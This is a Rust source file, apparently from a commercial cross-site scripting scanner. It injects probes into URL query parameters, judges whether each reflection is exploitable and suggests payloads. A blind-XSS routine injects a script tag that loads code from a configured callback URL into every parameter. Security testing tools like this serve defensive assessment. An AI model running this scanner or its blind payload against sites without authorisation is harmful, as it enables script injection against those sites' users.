// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Scan orchestration
//!
//! Bounded worker pool over target URLs. Per URL: baseline fetch, DOM
//! surface scan, per-parameter probe injection with multi-reflection
//! resolution, exploitability judgment and payload suggestion. Deep mode
//! analyzes external scripts through the deduplicated cache; blind-XSS
//! deliveries run as bounded tasks joined before the scan returns.

mod probe;

pub use probe::{build_probe, extract_parameters, inject_parameter};

use std::sync::Arc;
use std::time::Instant;

use serde::Serialize;
use tokio::sync::Semaphore;
use tracing::{debug, info, warn};

use crate::context::{resolve_reflections, scan_reflections, ReflectionContext};
use crate::error::Result;
use crate::http::{HttpClient, HttpClientConfig, ScriptCache, DEFAULT_FETCH_CONCURRENCY};
use crate::patterns::ScanPatterns;
use crate::payload::PayloadGenerator;
use crate::security::{extract_csp_from_html, ExploitabilityJudge, SecurityPosture};
use crate::taint::{dedup_findings, scan_document, Finding, JsTaintAnalyzer};

/// Scan configuration
#[derive(Debug, Clone)]
pub struct ScanConfig {
    /// Concurrent URL workers
    pub concurrency: usize,
    /// Fetch and analyze external scripts
    pub deep: bool,
    /// Blind-XSS callback URL; when set, blind payloads are delivered
    pub blind_url: Option<String>,
    /// Probe marker (alphanumeric, unlikely to pre-exist in responses)
    pub marker: String,
    /// Optional wall-clock deadline for the whole scan
    pub deadline: Option<Instant>,
    /// HTTP transport configuration
    pub http: HttpClientConfig,
}

impl Default for ScanConfig {
    fn default() -> Self {
        Self {
            concurrency: 10,
            deep: false,
            blind_url: None,
            marker: "sxti9r".to_string(),
            deadline: None,
            http: HttpClientConfig::default(),
        }
    }
}

/// One judged reflection of the probe in one parameter
#[derive(Debug, Clone, Serialize)]
pub struct ParameterFinding {
    /// Parameter name
    pub parameter: String,
    /// Context the probe landed in
    pub context: ReflectionContext,
    /// Byte offset of the occurrence
    pub offset: usize,
    /// Characters that survived filtering at this occurrence
    pub unfiltered: String,
    /// Verdict of the exploitability judge
    pub exploitable: bool,
    /// Proposed payload for exploitable sites
    pub suggested_payload: Option<String>,
}

/// Scan result for one URL
#[derive(Debug, Clone, Serialize, Default)]
pub struct UrlScanResult {
    /// Target URL
    pub url: String,
    /// Reflection findings per parameter
    pub parameters: Vec<ParameterFinding>,
    /// Static DOM findings from the baseline response
    pub dom_findings: Vec<Finding>,
    /// Security posture of the baseline response
    pub posture: SecurityPosture,
    /// Non-fatal problems hit during this URL's scan
    pub errors: Vec<String>,
    /// RFC 3339 completion timestamp
    pub scanned_at: String,
}

/// XSS prober
pub struct Scanner {
    config: ScanConfig,
    client: Arc<HttpClient>,
    patterns: Arc<ScanPatterns>,
    script_cache: Arc<ScriptCache>,
    judge: ExploitabilityJudge,
    payloads: PayloadGenerator,
}

impl Scanner {
    pub fn new(config: ScanConfig) -> Result<Self> {
        let client = Arc::new(HttpClient::with_config(config.http.clone())?);
        let patterns = Arc::new(ScanPatterns::new()?);
        let script_cache = Arc::new(ScriptCache::new(client.clone(), DEFAULT_FETCH_CONCURRENCY));
        let payloads = PayloadGenerator::with_marker(config.marker.to_ascii_uppercase());

        Ok(Self {
            config,
            client,
            patterns,
            script_cache,
            judge: ExploitabilityJudge::new(),
            payloads,
        })
    }

    /// Shared pattern tables
    pub fn patterns(&self) -> &ScanPatterns {
        &self.patterns
    }

    fn expired(&self) -> bool {
        self.config
            .deadline
            .map(|d| Instant::now() >= d)
            .unwrap_or(false)
    }

    /// Scan many URLs through the bounded worker pool. Results come back
    /// re-associated with their origin URL, in input order.
    pub async fn scan_urls(self: Arc<Self>, urls: &[String]) -> Vec<UrlScanResult> {
        let semaphore = Arc::new(Semaphore::new(self.config.concurrency.max(1)));
        let mut handles = Vec::with_capacity(urls.len());

        for url in urls {
            let scanner = Arc::clone(&self);
            let semaphore = semaphore.clone();
            let url = url.clone();
            handles.push(tokio::spawn(async move {
                let _permit = semaphore.acquire_owned().await.ok();
                if scanner.expired() {
                    let mut result = UrlScanResult {
                        url: url.clone(),
                        ..Default::default()
                    };
                    result.errors.push("deadline exceeded before start".to_string());
                    return result;
                }
                match scanner.scan_url(&url).await {
                    Ok(result) => result,
                    Err(e) => {
                        warn!("[seitti] scan failed for {}: {}", url, e);
                        let mut result = UrlScanResult {
                            url: url.clone(),
                            ..Default::default()
                        };
                        result.errors.push(e.to_string());
                        result
                    }
                }
            }));
        }

        let mut results = Vec::with_capacity(handles.len());
        for handle in handles {
            if let Ok(result) = handle.await {
                results.push(result);
            }
        }
        results
    }

    /// Scan a single URL
    pub async fn scan_url(&self, url: &str) -> Result<UrlScanResult> {
        info!("[seitti] scanning {}", url);
        let mut result = UrlScanResult {
            url: url.to_string(),
            ..Default::default()
        };

        // Baseline: posture + DOM surface scan
        let baseline = self.client.get(url).await?;
        let mut posture = SecurityPosture::from_headers(&baseline.headers);
        if posture.csp.is_none() {
            posture.csp = extract_csp_from_html(&baseline.body);
        }

        let dom = scan_document(&baseline.body, &self.patterns);
        let mut dom_findings = dom.findings;

        if self.config.deep && !dom.external_scripts.is_empty() {
            self.analyze_external_scripts(
                url,
                &dom.external_scripts,
                &mut dom_findings,
                &mut result.errors,
            )
            .await;
            dom_findings = dedup_findings(dom_findings);
        }

        // Per-parameter probing
        let params = extract_parameters(url);
        if params.is_empty() {
            debug!("[seitti] no query parameters in {}", url);
        }
        let probe_value = build_probe(&self.config.marker, self.patterns.probe_alphabet());

        for (param, _original) in &params {
            if self.expired() {
                result.errors.push("deadline exceeded".to_string());
                break;
            }

            let test_url = inject_parameter(url, param, &probe_value);
            let response = match self.client.get(&test_url).await {
                Ok(response) => response,
                Err(e) => {
                    debug!("[seitti] probe request failed: {}", e);
                    result.errors.push(format!("{}: {}", param, e));
                    continue;
                }
            };

            let sites = scan_reflections(
                &response.body,
                &self.config.marker,
                self.patterns.probe_alphabet(),
            );
            if sites.is_empty() {
                continue;
            }

            let probe_posture = SecurityPosture::from_headers(&response.headers);
            let resolved = resolve_reflections(sites, |site| {
                self.judge.judge(site.context, &probe_posture, &site.unfiltered)
            });

            for site in resolved {
                let exploitable = self.judge.judge(site.context, &probe_posture, &site.unfiltered);
                let suggested_payload = exploitable.then(|| {
                    self.payloads
                        .suggest(site.context, &site.unfiltered, None)
                        .payload
                });
                if exploitable {
                    info!(
                        "[seitti] exploitable reflection in '{}' ({} context)",
                        param, site.context
                    );
                }
                result.parameters.push(ParameterFinding {
                    parameter: param.clone(),
                    context: site.context,
                    offset: site.offset,
                    unfiltered: site.unfiltered.iter().collect(),
                    exploitable,
                    suggested_payload,
                });
            }
        }

        // Blind-XSS delivery: bounded tasks, joined before returning
        if let Some(blind_url) = self.config.blind_url.clone() {
            self.deliver_blind(url, &params, &blind_url).await;
        }

        result.dom_findings = dom_findings;
        result.posture = posture;
        result.scanned_at = chrono::Utc::now().to_rfc3339();
        Ok(result)
    }

    async fn analyze_external_scripts(
        &self,
        base_url: &str,
        scripts: &[String],
        findings: &mut Vec<Finding>,
        errors: &mut Vec<String>,
    ) {
        let analyzer = JsTaintAnalyzer::new(&self.patterns);
        for script_url in scripts {
            if self.expired() {
                errors.push("deadline exceeded".to_string());
                return;
            }
            let absolute = match url::Url::parse(base_url).and_then(|b| b.join(script_url)) {
                Ok(u) => u.to_string(),
                Err(_) => continue,
            };
            match self.script_cache.fetch(&absolute).await {
                Ok(body) => {
                    let analysis = analyzer.analyze(&body);
                    findings.extend(analysis.findings);
                }
                Err(e) => {
                    debug!("[seitti] external script fetch failed: {}", e);
                    errors.push(format!("{}: {}", absolute, e));
                }
            }
        }
    }

    /// Fire blind payloads into every parameter, bounded and drained
    async fn deliver_blind(&self, url: &str, params: &[(String, String)], blind_url: &str) {
        let payload = format!("\"><script src=\"{}\"></script>", blind_url);
        let semaphore = Semaphore::new(3);

        let sends = params.iter().map(|(param, _)| {
            let test_url = inject_parameter(url, param, &payload);
            let semaphore = &semaphore;
            async move {
                let _permit = semaphore.acquire().await.ok();
                if let Err(e) = self.client.get(&test_url).await {
                    debug!("[seitti] blind delivery failed: {}", e);
                }
            }
        });
        futures::future::join_all(sends).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

    /// Echoes the `q` parameter raw into an HTML body
    struct EchoQuery;

    impl Respond for EchoQuery {
        fn respond(&self, request: &Request) -> ResponseTemplate {
            let value = request
                .url
                .query_pairs()
                .find(|(k, _)| k == "q")
                .map(|(_, v)| v.to_string())
                .unwrap_or_default();
            ResponseTemplate::new(200)
                .insert_header("content-type", "text/html")
                .set_body_string(format!("<html><body><div>{}</div></body></html>", value))
        }
    }

    /// Echoes the `q` parameter HTML-encoded
    struct EchoEncoded;

    impl Respond for EchoEncoded {
        fn respond(&self, request: &Request) -> ResponseTemplate {
            let value = request
                .url
                .query_pairs()
                .find(|(k, _)| k == "q")
                .map(|(_, v)| v.to_string())
                .unwrap_or_default();
            let encoded = value
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
                .replace('"', "&quot;")
                .replace('\'', "&#39;");
            ResponseTemplate::new(200)
                .insert_header("content-type", "text/html")
                .set_body_string(format!("<p>{}</p>", encoded))
        }
    }

    #[tokio::test]
    async fn test_raw_reflection_is_exploitable() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(EchoQuery)
            .mount(&server)
            .await;

        let scanner = Scanner::new(ScanConfig::default()).expect("scanner builds");
        let result = scanner
            .scan_url(&format!("{}/?q=hello", server.uri()))
            .await
            .expect("scan succeeds");

        assert!(!result.parameters.is_empty());
        let hit = &result.parameters[0];
        assert_eq!(hit.parameter, "q");
        assert_eq!(hit.context, ReflectionContext::Html);
        assert!(hit.exploitable);
        assert!(hit.suggested_payload.is_some());
    }

    #[tokio::test]
    async fn test_encoded_reflection_not_exploitable() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(EchoEncoded)
            .mount(&server)
            .await;

        let scanner = Scanner::new(ScanConfig::default()).expect("scanner builds");
        let result = scanner
            .scan_url(&format!("{}/?q=hello", server.uri()))
            .await
            .expect("scan succeeds");

        // Best-effort single site, judged not exploitable
        assert!(result.parameters.iter().all(|p| !p.exploitable));
    }

    #[tokio::test]
    async fn test_scan_urls_preserves_association() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(EchoQuery)
            .mount(&server)
            .await;

        let scanner = Arc::new(Scanner::new(ScanConfig::default()).expect("scanner builds"));
        let urls = vec![
            format!("{}/a?q=1", server.uri()),
            format!("{}/b?q=2", server.uri()),
            format!("{}/c?q=3", server.uri()),
        ];
        let results = scanner.scan_urls(&urls).await;
        assert_eq!(results.len(), 3);
        for (url, result) in urls.iter().zip(&results) {
            assert_eq!(&result.url, url);
        }
    }

    #[tokio::test]
    async fn test_no_parameters_is_not_an_error() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(EchoQuery)
            .mount(&server)
            .await;

        let scanner = Scanner::new(ScanConfig::default()).expect("scanner builds");
        let result = scanner
            .scan_url(&server.uri())
            .await
            .expect("scan succeeds");
        assert!(result.parameters.is_empty());
        assert!(result.errors.is_empty());
    }
}
